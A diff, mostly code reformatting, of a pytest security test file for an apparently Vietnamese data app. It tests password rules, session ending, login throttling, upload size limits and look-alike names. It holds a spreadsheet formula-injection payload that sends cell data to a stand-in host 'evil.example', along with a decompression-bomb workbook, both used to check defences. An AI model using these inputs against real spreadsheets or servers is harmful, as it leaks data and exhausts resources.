@@ -56,8 +56,12 @@ def cli_db(demo_db_path: Path, tmp_path: Path) -> Path:
 
 
 @pytest.fixture
-def run(cli_db: Path, monkeypatch: pytest.MonkeyPatch, fast_bcrypt: None,
-        capsys: pytest.CaptureFixture[str]) -> Run:
+def run(
+    cli_db: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    fast_bcrypt: None,
+    capsys: pytest.CaptureFixture[str],
+) -> Run:
     """``run("users", "add", …, password=…)``: the command line in this process, as a script."""
 
     def call(*args: str, password: str = "") -> tuple[int, str, str]:
@@ -71,20 +75,24 @@ def run(cli_db: Path, monkeypatch: pytest.MonkeyPatch, fast_bcrypt: None,
 
 # --- 5.9 weak passwords ---------------------------------------------------------------------
 
-@pytest.mark.parametrize(("password", "message"), [
-    ("12345678", "quá phổ biến"),            # long enough, but first on every list
-    ("matkhau123", "quá phổ biến"),          # the Vietnamese favourite
-    ("aaaaaaaa", "một ký tự lặp lại"),
-    ("aaaa AAAA", "một ký tự lặp lại"),       # the same, in two cases and a space
-    ("canbo.xa", "trùng tên đăng nhập"),      # the username itself
-    ("CANBO.XA", "trùng tên đăng nhập"),      # … in capitals
-    ("        ", "chỉ có dấu cách"),          # eight spaces: a user who could never log in
-    ("ngan", "ít nhất 8 ký tự"),
-    ("đ" * 37, "quá 72 byte"),                # 37 letters, 74 bytes: bcrypt's limit
-])
-def test_weak_passwords_are_refused_with_a_vietnamese_reason(run: Run, cli_db: Path,
-                                                             password: str,
-                                                             message: str) -> None:
+
+@pytest.mark.parametrize(
+    ("password", "message"),
+    [
+        ("12345678", "quá phổ biến"),  # long enough, but first on every list
+        ("matkhau123", "quá phổ biến"),  # the Vietnamese favourite
+        ("aaaaaaaa", "một ký tự lặp lại"),
+        ("aaaa AAAA", "một ký tự lặp lại"),  # the same, in two cases and a space
+        ("canbo.xa", "trùng tên đăng nhập"),  # the username itself
+        ("CANBO.XA", "trùng tên đăng nhập"),  # … in capitals
+        ("        ", "chỉ có dấu cách"),  # eight spaces: a user who could never log in
+        ("ngan", "ít nhất 8 ký tự"),
+        ("đ" * 37, "quá 72 byte"),  # 37 letters, 74 bytes: bcrypt's limit
+    ],
+)
+def test_weak_passwords_are_refused_with_a_vietnamese_reason(
+    run: Run, cli_db: Path, password: str, message: str
+) -> None:
     code, out, err = run("users", "add", "canbo.xa", "--role", "viewer", password=password)
     assert code == 1 and message in err and "Traceback" not in err + out
     assert AuthStore(auth_path(cli_db)).get("canbo.xa") is None
@@ -96,7 +104,8 @@ def test_weak_passwords_are_refused_with_a_vietnamese_reason(run: Run, cli_db: P
 
 
 def test_a_good_password_is_accepted_and_an_overlong_login_is_just_refused(
-        tmp_path: Path, fast_bcrypt: None) -> None:
+    tmp_path: Path, fast_bcrypt: None
+) -> None:
     store = AuthStore(tmp_path / "a.sqlite")
     store.add_user("canbo", "Mùa xuân 1975", "viewer")  # spaces and diacritics are fine
     assert store.sign_in("canbo", "Mùa xuân 1975")[0] == "ok"
@@ -106,18 +115,22 @@ def test_a_good_password_is_accepted_and_an_overlong_login_is_just_refused(
 
 # --- 5.5 editors' scope -------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("role", ["editor", "admin"])
-def test_scoping_an_editor_or_admin_is_refused_and_said_why(run: Run, cli_db: Path,
-                                                            role: str) -> None:
-    code, out, err = run("users", "add", "sua.xbd", "--role", role, "--org", "XBD",
-                         password="Sua-so-lieu-XBD")
+def test_scoping_an_editor_or_admin_is_refused_and_said_why(
+    run: Run, cli_db: Path, role: str
+) -> None:
+    code, out, err = run(
+        "users", "add", "sua.xbd", "--role", role, "--org", "XBD", password="Sua-so-lieu-XBD"
+    )
     assert code == 1 and out == ""
     assert "Chỉ tài khoản vai trò viewer" in err and "bỏ --org" in err
     assert AuthStore(auth_path(cli_db)).get("sua.xbd") is None
     # unscoped, the same account is fine, and a scoped viewer still is
     assert run("users", "add", "sua.xbd", "--role", role, password="Sua-so-lieu-XBD")[0] == 0
-    code, out, _ = run("users", "add", "bithu.xbd", "--role", "viewer", "--org", "XBD",
-                       password="Bi-thu-XBD-2025")
+    code, out, _ = run(
+        "users", "add", "bithu.xbd", "--role", "viewer", "--org", "XBD", password="Bi-thu-XBD-2025"
+    )
     assert code == 0 and "chỉ xem: XBD" in out
 
 
@@ -137,10 +150,11 @@ def test_a_scoped_editor_left_from_before_may_read_but_not_write(tmp_path: Path)
 
 # --- 5.1 sessions and secret files ----------------------------------------------------------
 
+
 def test_passwd_and_remove_on_the_command_line_end_every_session_at_once(
-        run: Run, cli_db: Path) -> None:
-    assert run("users", "add", "canbo.xa", "--role", "editor",
-               password="Dong-chi-Ba-2025")[0] == 0
+    run: Run, cli_db: Path
+) -> None:
+    assert run("users", "add", "canbo.xa", "--role", "editor", password="Dong-chi-Ba-2025")[0] == 0
     store = AuthStore(auth_path(cli_db))
     copied = [store.sign_in("canbo.xa", "Dong-chi-Ba-2025")[1] for _ in range(2)]
     assert all(store.session_user(t) is not None for t in copied)
@@ -159,11 +173,13 @@ def _others_may_read(path: Path) -> bool:
 
 
 def test_the_users_and_sessions_file_is_readable_by_its_owner_only(
-        run: Run, cli_db: Path, tmp_path: Path) -> None:
+    run: Run, cli_db: Path, tmp_path: Path
+) -> None:
     old = os.umask(0o022)  # the usual umask: files made by default are world-readable
     try:
-        assert run("users", "add", "canbo.xa", "--role", "viewer",
-                   password="Dong-chi-Ba-2025")[0] == 0
+        assert (
+            run("users", "add", "canbo.xa", "--role", "viewer", password="Dong-chi-Ba-2025")[0] == 0
+        )
         store = AuthStore(auth_path(cli_db))
         store.sign_in("canbo.xa", "Dong-chi-Ba-2025")
         files = [p for p in store.path.parent.iterdir() if p.name.startswith(store.path.name)]
@@ -182,8 +198,13 @@ def test_the_users_and_sessions_file_is_readable_by_its_owner_only(
 
 # Names an attacker could import (the probe's HYPERLINK among them); each must reach every
 # file as the same text, never as a formula.
-EVIL = ('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")', "+SUM(1;2)", "-2+3", "@cmd",
-        "\t=1+1")
+EVIL = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")',
+    "+SUM(1;2)",
+    "-2+3",
+    "@cmd",
+    "\t=1+1",
+)
 EVIL_NAMES = set(EVIL)
 
 
@@ -194,10 +215,14 @@ def evil_db_path(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -
     shutil.copy(demo_db_path, path)
     with duckdb.connect(path) as conn:
         # the five weakest of 2024 by members' share good or better: the deck charts them
-        codes = [code for (code,) in conn.execute(
-            "select org_code from base_org_rows where year = 2024 and members_evaluated > 0"
-            " order by (members_htxsnv + members_httnv) / members_evaluated, org_code"
-            " limit 5").fetchall()]
+        codes = [
+            code
+            for (code,) in conn.execute(
+                "select org_code from base_org_rows where year = 2024 and members_evaluated > 0"
+                " order by (members_htxsnv + members_httnv) / members_evaluated, org_code"
+                " limit 5"
+            ).fetchall()
+        ]
         for table in ("organizations", "org_spells", "org_years", "base_org_facts"):
             for code, name in zip(codes, EVIL, strict=True):
                 conn.execute(f"update {table} set org_name = ? where org_code = ?", [name, code])
@@ -206,14 +231,24 @@ def evil_db_path(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -
 
 def _formula_cells(book_bytes: bytes) -> list[str]:
     book = openpyxl.load_workbook(io.BytesIO(book_bytes))
-    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in book.worksheets
-            for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    return [
+        f"{ws.title}!{c.coordinate}={c.value}"
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
 
 
 def _texts(book_bytes: bytes) -> set[str]:
     book = openpyxl.load_workbook(io.BytesIO(book_bytes))
-    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
-            if isinstance(c.value, str)}
+    return {
+        c.value
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    }
 
 
 def test_tra_cuu_downloads_keep_formula_like_names_as_text(evil_db_path: Path) -> None:
@@ -230,8 +265,9 @@ def test_tra_cuu_downloads_keep_formula_like_names_as_text(evil_db_path: Path) -
         assert "'" + name in fields
 
 
-def test_every_file_the_product_writes_keeps_the_names_as_text(evil_db_path: Path,
-                                                               tmp_path: Path) -> None:
+def test_every_file_the_product_writes_keeps_the_names_as_text(
+    evil_db_path: Path, tmp_path: Path
+) -> None:
     with Database(evil_db_path, read_only=True) as db:
         table = exports.build("xlsx", db, 2024)
         data = workbook.workbook_bytes(workbook.build_workbook(workbook.export_data(db)))
@@ -249,8 +285,10 @@ def test_every_file_the_product_writes_keeps_the_names_as_text(evil_db_path: Pat
 
 # --- 5.2 nobody can lock the admin out --------------------------------------------------------
 
+
 def test_failures_slow_down_their_source_with_a_doubling_wait_that_ends(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fast_bcrypt: None) -> None:
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fast_bcrypt: None
+) -> None:
     store = AuthStore(tmp_path / "a.sqlite")
     store.add_user("quantri", "Quan-tri-vien-2025", "admin")
     clock = [datetime(2026, 12, 1, 8, 0)]
@@ -278,11 +316,9 @@ def test_failures_slow_down_their_source_with_a_doubling_wait_that_ends(
     assert store.throttled() == []
 
 
-def test_an_administrator_lets_a_waiting_address_try_again_at_once(run: Run,
-                                                                     cli_db: Path) -> None:
+def test_an_administrator_lets_a_waiting_address_try_again_at_once(run: Run, cli_db: Path) -> None:
     store = AuthStore(auth_path(cli_db))
-    assert run("users", "add", "quantri", "--role", "admin",
-               password="Quan-tri-vien-2025")[0] == 0
+    assert run("users", "add", "quantri", "--role", "admin", password="Quan-tri-vien-2025")[0] == 0
     for source in ("203.0.113.7", "192.0.2.10"):
         for _ in range(FREE_FAILURES):
             store.sign_in("quantri", "sai", source)
@@ -300,6 +336,7 @@ def test_an_administrator_lets_a_waiting_address_try_again_at_once(run: Run,
 
 # --- 5.8 expensive uploads --------------------------------------------------------------------
 
+
 def _workbook_with_sheet(sheet_xml: bytes) -> bytes:
     """A minimal .xlsx whose one worksheet part is ``sheet_xml``, deflated."""
     buffer = io.BytesIO()
@@ -311,10 +348,12 @@ def _workbook_with_sheet(sheet_xml: bytes) -> bytes:
 
 
 def test_a_workbook_that_inflates_far_beyond_its_size_is_refused_at_once(
-        demo_db_path: Path) -> None:
+    demo_db_path: Path,
+) -> None:
     # the probe's file: 0,7 MB inflating to 190 MB took 20,6 s and 2,48 GB to parse
-    bomb = _workbook_with_sheet(b"<worksheet><sheetData>" + b"<row/>" * 16_000_000
-                                + b"</sheetData></worksheet>")
+    bomb = _workbook_with_sheet(
+        b"<worksheet><sheetData>" + b"<row/>" * 16_000_000 + b"</sheetData></worksheet>"
+    )
     assert len(bomb) < 1024 * 1024
     started = time.perf_counter()
     with Database(demo_db_path, read_only=True) as db:
@@ -325,24 +364,29 @@ def test_a_workbook_that_inflates_far_beyond_its_size_is_refused_at_once(
     assert "giải nén ra quá lớn" in problem.message and "chia thành nhiều tệp" in problem.message
 
 
-def test_the_inflated_size_is_bounded_whatever_the_ratio(demo_db_path: Path,
-                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_inflated_size_is_bounded_whatever_the_ratio(
+    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     # random cells compress poorly (a real ratio), yet a total over the bound is refused
     monkeypatch.setattr(spec, "MAX_UNZIPPED_BYTES", 2 * 1024 * 1024)
-    cells = b"".join(b'<c><v>%d</v></c>' % n for n in random.Random(5).choices(
-        range(10**9), k=150_000))
-    workbook = _workbook_with_sheet(b"<worksheet><sheetData><row>" + cells
-                                    + b"</row></sheetData></worksheet>")
+    cells = b"".join(
+        b"<c><v>%d</v></c>" % n for n in random.Random(5).choices(range(10**9), k=150_000)
+    )
+    workbook = _workbook_with_sheet(
+        b"<worksheet><sheetData><row>" + cells + b"</row></sheetData></worksheet>"
+    )
     with Database(demo_db_path, read_only=True) as db:
         result = ingest.preview(db, [ingest.Source("lon.xlsx", workbook)])
     assert [p.message for p in result.problems if "trên 2 MB" in p.message]
 
 
 def test_large_uploads_are_read_in_a_worker_process_with_the_same_result(
-        demo_db_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     with Database(demo_db_path, read_only=True) as db:
-        exported = workbook.workbook_bytes(workbook.build_workbook(
-            workbook.export_data(db, [2024])))
+        exported = workbook.workbook_bytes(
+            workbook.build_workbook(workbook.export_data(db, [2024]))
+        )
         here = ingest.preview(db, [ingest.Source("nam-2024.xlsx", exported)])
         monkeypatch.setattr(spec, "ISOLATE_ABOVE_BYTES", 0)
         calls: list[int] = []
@@ -358,12 +402,14 @@ def test_large_uploads_are_read_in_a_worker_process_with_the_same_result(
     assert not here.refused and not there.refused and here.batch and there.batch
     assert here.batch.summary_text() == there.batch.summary_text()
     # the server refuses a bigger upload before any of this (.streamlit/config.toml)
-    config = tomllib.loads((Path(__file__).parents[2] / ".streamlit" / "config.toml")
-                           .read_text(encoding="utf-8"))
+    config = tomllib.loads(
+        (Path(__file__).parents[2] / ".streamlit" / "config.toml").read_text(encoding="utf-8")
+    )
     assert config["server"]["maxUploadSize"] * 2**20 <= spec.MAX_FILE_BYTES
 
 
 # --- 5.10 small ones ----------------------------------------------------------------------------
+
 
 def test_a_clients_clear_cache_message_is_dropped_by_the_server() -> None:
     import streamlit as st
@@ -385,8 +431,7 @@ def test_a_clients_clear_cache_message_is_dropped_by_the_server() -> None:
     # what an anonymous websocket client sends, as its session receives it (a stand-in for
     # the session: the handler only needs its own state)
     session = SimpleNamespace(_session_state={})
-    session._handle_clear_cache_request = (
-        lambda: AppSession._handle_clear_cache_request(session))  # type: ignore[arg-type]
+    session._handle_clear_cache_request = lambda: AppSession._handle_clear_cache_request(session)  # type: ignore[arg-type]
     AppSession.handle_backmsg(session, BackMsg(clear_cache=True))  # type: ignore[arg-type]
     year_summary_stand_in(2024)
     assert computed == [2024]  # still cached: nobody's pages were slowed down
@@ -400,54 +445,74 @@ def _preview_csv(db_path: Path, tmp_path: Path, name: str, text: str) -> ingest.
         return ingest.preview(db, sources)
 
 
-@pytest.mark.parametrize("name", [
-    "Đảng bộ xã Bà\u200b Điểm",        # a zero-width space, the probe's
-    "\ufeffĐảng bộ xã Bà Điểm",        # a byte-order mark in front
-    "Đảng bộ xã Bà  Điểm\u00a0",       # two spaces, a non-breaking one at the end
-    "ĐẢNG BỘ XÃ BÀ ĐIỂM",              # capitals
-    "Đảng bộ xã Ba\u0300 Điê\u0309m",  # decomposed accents (NFD)
-])
-def test_a_look_alike_second_organization_is_refused(demo_db_path: Path, tmp_path: Path,
-                                                     name: str) -> None:
-    result = _preview_csv(demo_db_path, tmp_path, "organizations.csv",
-                          "org_code,org_name,org_type,sector,ended\n"
-                          f"XBD2,{name},base_committee,commune,2025-06-30\n")
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Đảng bộ xã Bà\u200b Điểm",  # a zero-width space, the probe's
+        "\ufeffĐảng bộ xã Bà Điểm",  # a byte-order mark in front
+        "Đảng bộ xã Bà  Điểm\u00a0",  # two spaces, a non-breaking one at the end
+        "ĐẢNG BỘ XÃ BÀ ĐIỂM",  # capitals
+        "Đảng bộ xã Ba\u0300 Điê\u0309m",  # decomposed accents (NFD)
+    ],
+)
+def test_a_look_alike_second_organization_is_refused(
+    demo_db_path: Path, tmp_path: Path, name: str
+) -> None:
+    result = _preview_csv(
+        demo_db_path,
+        tmp_path,
+        "organizations.csv",
+        f"org_code,org_name,org_type,sector,ended\nXBD2,{name},base_committee,commune,2025-06-30\n",
+    )
     assert result.refused
     [problem] = [p for p in result.problems if p.column == "org_name" or "XBD" in p.message]
     assert "XBD “Đảng bộ xã Bà Điểm”" in problem.message and problem.row == 2
     assert "ký tự vô hình" in problem.message
 
 
-def test_names_are_stored_clean_and_a_distinct_name_is_accepted(demo_db_path: Path,
-                                                                tmp_path: Path) -> None:
-    result = _preview_csv(demo_db_path, tmp_path, "organizations.csv",
-                          "org_code,org_name,org_type,sector,ended\n"
-                          "XTH2,Chi bộ\u200b  ấp Tân\u00a0Hòa,base_cell,commune,2025-06-30\n"
-                          "XTH3,Chi bộ ấp Tân Hóa,base_cell,commune,2025-06-30\n")
+def test_names_are_stored_clean_and_a_distinct_name_is_accepted(
+    demo_db_path: Path, tmp_path: Path
+) -> None:
+    result = _preview_csv(
+        demo_db_path,
+        tmp_path,
+        "organizations.csv",
+        "org_code,org_name,org_type,sector,ended\n"
+        "XTH2,Chi bộ\u200b  ấp Tân\u00a0Hòa,base_cell,commune,2025-06-30\n"
+        "XTH3,Chi bộ ấp Tân Hóa,base_cell,commune,2025-06-30\n",
+    )
     assert not result.refused, [p.message for p in result.problems]
     assert result.batch is not None
-    names = {c.key[0]: c.new["org_name"] for c in result.batch.changes
-             if c.table == "organizations"}
+    names = {
+        c.key[0]: c.new["org_name"] for c in result.batch.changes if c.table == "organizations"
+    }
     assert names == {"XTH2": "Chi bộ ấp Tân Hòa", "XTH3": "Chi bộ ấp Tân Hóa"}
 
 
 def test_a_workbook_with_external_links_imports_its_stored_values_with_a_warning(
-        demo_db_path: Path, run: Run, cli_db: Path, tmp_path: Path) -> None:
+    demo_db_path: Path, run: Run, cli_db: Path, tmp_path: Path
+) -> None:
     with Database(demo_db_path, read_only=True) as db:
-        exported = workbook.workbook_bytes(workbook.build_workbook(
-            workbook.export_data(db, [2024])))
+        exported = workbook.workbook_bytes(
+            workbook.build_workbook(workbook.export_data(db, [2024]))
+        )
     linked = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(exported)) as source, \
-            zipfile.ZipFile(linked, "w", zipfile.ZIP_DEFLATED) as target:
+    with (
+        zipfile.ZipFile(io.BytesIO(exported)) as source,
+        zipfile.ZipFile(linked, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
         for item in source.infolist():
             target.writestr(item, source.read(item))
         # what Excel writes for a formula such as ='[tong-hop.xlsx]Sheet1'!A1
-        target.writestr("xl/externalLinks/externalLink1.xml",
-                        '<externalLink xmlns="http://schemas.openxmlformats.org/'
-                        'spreadsheetml/2006/main"><externalBook/></externalLink>')
-        target.writestr("xl/externalLinks/_rels/externalLink1.xml.rels",
-                        '<Relationships><Relationship Target="file:///C:/tong-hop.xlsx"/>'
-                        '</Relationships>')
+        target.writestr(
+            "xl/externalLinks/externalLink1.xml",
+            '<externalLink xmlns="http://schemas.openxmlformats.org/'
+            'spreadsheetml/2006/main"><externalBook/></externalLink>',
+        )
+        target.writestr(
+            "xl/externalLinks/_rels/externalLink1.xml.rels",
+            '<Relationships><Relationship Target="file:///C:/tong-hop.xlsx"/></Relationships>',
+        )
     path = tmp_path / "nam-2024.xlsx"
     path.write_bytes(linked.getvalue())
     with Database(demo_db_path, read_only=True) as db:
